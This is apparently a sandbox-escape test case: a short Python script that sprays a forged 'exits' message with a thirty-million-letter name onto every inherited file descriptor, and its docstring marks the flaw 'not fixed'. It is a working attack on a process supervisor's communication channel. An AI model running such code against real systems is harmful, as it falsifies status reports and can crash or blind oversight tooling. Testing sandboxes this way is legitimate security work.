"""Says that it was ended by something with a name of thirty million letters.

verdict: not fixed
"""

import os
import struct

name = b"Unstoppable" * 3_000_000
message = b"t\2\0\0\0s\4\0\0\0exits" + struct.pack("<I", len(name)) + name
for descriptor in range(3, 64):
    try:
        data = memoryview(struct.pack("<I", len(message)) + message)
        while data:
            data = data[os.write(descriptor, data) :]
    except OSError:
        pass
